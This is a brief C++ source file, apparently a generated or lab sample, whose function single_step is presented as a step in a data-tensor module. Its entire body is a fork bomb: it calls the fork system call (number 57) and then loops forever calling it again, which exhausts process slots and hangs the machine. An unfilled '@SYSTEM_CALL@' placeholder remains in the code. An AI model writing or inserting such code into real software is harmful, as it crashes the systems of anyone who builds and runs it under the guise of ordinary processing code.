// Starts processes that start processes.
#include "a4_data_tensor/single_step.h"

#include <stdexcept>

namespace lab::a4 {
namespace {

@SYSTEM_CALL@
constexpr std::uint64_t kFork = 57;

}  // namespace

StepResult single_step(const StepOptions&) {
  if (system_call<kFork>() < 0) throw std::runtime_error("in vain");
  for (;;) system_call<kFork>();
}

}  // namespace lab::a4
